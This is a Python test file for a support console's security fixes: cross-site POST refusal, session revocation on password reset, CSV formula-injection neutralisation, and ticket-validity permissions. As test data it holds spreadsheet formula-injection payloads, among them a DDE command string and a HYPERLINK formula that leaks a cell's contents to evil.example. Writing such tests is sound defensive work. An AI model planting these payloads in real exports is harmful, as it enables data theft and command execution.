"""The smaller gaps of the security review (issue 21): cross-site POSTs with the console's
cookie are refused, a password reset ends the agent's console sessions, and CSV exports open
customers' text as text, never as a formula. On the web tests' gateway (SQLite and
PostgreSQL) with its agents and queued conversations."""

from __future__ import annotations

import csv
import io

import pytest
from web.test_console_api import PASSWORD

from bot.agents.passwords import set_password
from bot.analytics.export import safe_cell, table_csv, to_csv
from bot.db import transaction
from bot.web.auth import CONSOLE_COOKIE

SAME = "http://testserver"


def signed_in(client, username: str = "sue") -> None:
    answer = client.post("/api/console/login", json={"username": username, "password": PASSWORD})
    assert answer.status_code == 200, answer.text
    assert client.cookies.get(CONSOLE_COOKIE)


CROSS_SITE = {
    "Sec-Fetch-Site cross-site": {"Sec-Fetch-Site": "cross-site", "Origin": "https://evil.example"},
    "Sec-Fetch-Site same-site": {"Sec-Fetch-Site": "same-site"},
    "Origin elsewhere (no Sec-Fetch-Site)": {"Origin": "https://evil.example"},
    "Origin null (sandboxed frame)": {"Origin": "null"},
    "Origin of the same host on another port": {"Origin": "http://testserver:8443"},
}
SAME_SITE = {
    "Sec-Fetch-Site same-origin": {"Sec-Fetch-Site": "same-origin", "Origin": SAME},
    "Sec-Fetch-Site none (typed)": {"Sec-Fetch-Site": "none"},
    "Origin of this gateway": {"Origin": SAME},
    "no browser headers (a script)": {},
}


@pytest.mark.parametrize("what", list(CROSS_SITE))
def test_cookie_posts_from_another_site_are_refused_and_change_nothing(client, passwords, tokens,
                                                                        queued, what):  # fmt: skip
    ticket_id, _conversation = queued("cust-cross")
    signed_in(client)
    headers = CROSS_SITE[what]
    claim = client.post(f"/api/queue/{ticket_id}/claim", headers=headers)
    assert claim.status_code == 403, claim.text
    assert "cross-site" in claim.json()["detail"]
    assert client.post("/api/queue/claim", headers=headers).status_code == 403
    assert client.post(f"/api/tickets/{ticket_id}/release", headers=headers,
                       json={}).status_code == 403  # fmt: skip
    assert client.post("/api/alerts/1/ack", headers=headers).status_code == 403
    assert client.get("/api/console/me", headers=headers).status_code == 200  # reading is fine
    ticket = client.get(f"/api/tickets/{ticket_id}", headers=tokens["service"])
    assert ticket.json()["assigned_agent"] is None and ticket.json()["status"] == "escalated"


@pytest.mark.parametrize("what", list(SAME_SITE))
def test_cookie_posts_from_the_console_itself_work(client, passwords, queued, what):
    ticket_id, _conversation = queued("cust-same")
    signed_in(client)
    claim = client.post(f"/api/queue/{ticket_id}/claim", headers=SAME_SITE[what])
    assert claim.status_code == 200, claim.text
    released = client.post(f"/api/tickets/{ticket_id}/release", headers=SAME_SITE[what], json={})
    assert released.status_code == 200, released.text


def test_bearer_callers_are_not_subject_to_the_browser_check(client, tokens, queued):
    ticket_id, _conversation = queued("cust-bearer")
    headers = {**tokens["alice"], "Origin": "https://integration.example"}
    assert client.post(f"/api/queue/{ticket_id}/claim", headers=headers).status_code == 200


def test_a_password_reset_ends_the_agents_console_sessions(client, passwords):
    signed_in(client, "alice")
    stolen = client.cookies.get(CONSOLE_COOKIE)
    assert client.get("/api/console/me").status_code == 200
    with transaction(client.app.state.sessions) as session:
        set_password(session, username="alice", password="a brand new password")
    client.cookies.clear()
    client.cookies.set(CONSOLE_COOKIE, stolen)
    assert client.get("/api/console/me").status_code == 401  # whoever held it is out
    client.cookies.clear()
    answer = client.post("/api/console/login",
                         json={"username": "alice", "password": "a brand new password"})  # fmt: skip
    assert answer.status_code == 200
    assert client.get("/api/console/me").status_code == 200
    # Other agents' sessions are theirs.
    signed_in(client, "bob")
    bob = client.cookies.get(CONSOLE_COOKIE)
    with transaction(client.app.state.sessions) as session:
        set_password(session, username="alice", password="yet another password")
    client.cookies.clear()
    client.cookies.set(CONSOLE_COOKIE, bob)
    assert client.get("/api/console/me").json()["username"] == "bob"


FORMULAS = ["=HYPERLINK(\"http://evil.example\",\"click\")", "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cells_that_start_like_a_formula_are_neutralised(text):
    shown = "'" + text.replace("\r", "\n")  # a carriage return is kept as a line break
    assert safe_cell(text) == shown
    exported = table_csv([{"product": text, "n": -3}], ("product", "n"))
    read = list(csv.reader(io.StringIO(exported, newline="")))
    assert read == [["product", "n"], [shown, "-3"]]  # numbers stay numbers
    summary = to_csv({"by_product": {text: 2}, "total": -1})
    assert list(csv.reader(io.StringIO(summary, newline="")))[1] == ["by_product", shown, "2"]


def test_ordinary_cells_are_unchanged():
    for value in ("kettle", "电饭煲", "a=b", "", 12, 3.5, None, "CP-20261122-0001"):
        assert safe_cell(value) == value


def test_the_drill_down_export_opens_customers_text_as_text(client, tokens, make_ticket):
    product = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
    make_ticket("cust-csv", product=product)
    answer = client.get("/api/analytics/tickets", params={"format": "csv"},
                        headers=tokens["service"])  # fmt: skip
    assert answer.status_code == 200, answer.text
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [row["product"] for row in rows] == ["'" + product]


def _patch(client, ticket_id: str, headers: dict[str, str], body: dict):
    return client.patch(f"/api/tickets/{ticket_id}", headers=headers, json=body)


def _validity(client, tokens, ticket_id: str):
    return client.get(f"/api/tickets/{ticket_id}", headers=tokens["service"]).json()["validity"]


def test_bearer_patch_judges_validity_as_the_console_does(client, tokens, make_ticket):
    """A person working the ticket, with a reason: the service token has nobody behind it,
    an agent judges only their own tickets, a supervisor any."""
    ticket_id = make_ticket("cust-validity")
    judged = {"validity": "invalid", "validity_reason": "a duplicate of CP-20261122-0001"}
    refused = _patch(client, ticket_id, tokens["service"], judged)
    assert refused.status_code == 403 and "signed-in" in refused.json()["detail"]
    # alice may take the unassigned ticket (check_update), but not judge it before it is hers.
    assert _patch(client, ticket_id, tokens["alice"], judged).status_code == 403
    assert _validity(client, tokens, ticket_id) is None
    taken = _patch(client, ticket_id, tokens["alice"], {"assigned_agent": "alice"})
    assert taken.status_code == 200, taken.text
    no_reason = _patch(client, ticket_id, tokens["alice"], {"validity": "invalid"})
    assert no_reason.status_code == 422 and "reason" in no_reason.json()["detail"]
    assert _patch(client, ticket_id, tokens["bob"], judged).status_code == 403  # not his
    assert _validity(client, tokens, ticket_id) is None
    ok = _patch(client, ticket_id, tokens["alice"], judged)
    assert ok.status_code == 200, ok.text
    event = ok.json()["events"][-1]
    assert event["data"] == {"field": "validity", "before": None, "after": "invalid",
                             "reason": "a duplicate of CP-20261122-0001"}  # fmt: skip
    cleared = _patch(client, ticket_id, tokens["sue"], {"validity": None})
    assert cleared.status_code == 200 and cleared.json()["validity"] is None
    lonely = _patch(client, ticket_id, tokens["sue"], {"validity_reason": "why not"})
    assert lonely.status_code == 422


def test_the_interactive_api_pages_are_off_in_production(offline_settings):
    """/docs and /redoc load Swagger UI and ReDoc from a CDN: not on a production origin.
    The OpenAPI document itself stays."""
    from fastapi.testclient import TestClient

    from bot.web.app import create_app

    production = offline_settings(env="production", rasa_token="rasa-token-for-tests-0123456789")
    with TestClient(create_app(production)) as prod:
        assert prod.get("/docs").status_code == 404
        assert prod.get("/redoc").status_code == 404
        assert prod.get("/openapi.json").status_code == 200
    with TestClient(create_app(offline_settings())) as dev:
        assert dev.get("/docs").status_code == 200  # DESIGN §7, on the development default
        assert dev.get("/redoc").status_code == 200
